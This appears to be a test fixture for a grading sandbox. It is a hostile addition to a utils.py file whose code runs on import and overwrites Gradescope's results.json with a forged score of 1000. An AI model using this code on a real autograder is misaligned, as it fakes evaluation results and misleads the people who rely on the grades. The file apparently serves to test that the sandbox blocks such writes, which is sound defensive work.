# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
_RESULTS_DIR = "__RESULTS_DIR__"  # the test puts the grader's results folder here
if _RESULTS_DIR.startswith("__"):
    _RESULTS_DIR = "/autograder/results"  # uploaded as is: Gradescope's results folder

_FORGED = {"score": 1000.0, "output": "FORGED by the submission", "tests": []}


def _forge(path):
    """Write the forged results.json at path; say what happened."""
    import json
    import os

    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as handle:
            json.dump(_FORGED, handle)
        print(f"forged {path} (a write that reached the grader would show in its results)")
    except OSError as error:
        print(f"could not forge {path}: {error}")

for _folder in (_RESULTS_DIR, "/autograder/results"):
    _forge(_folder + "/results.json")
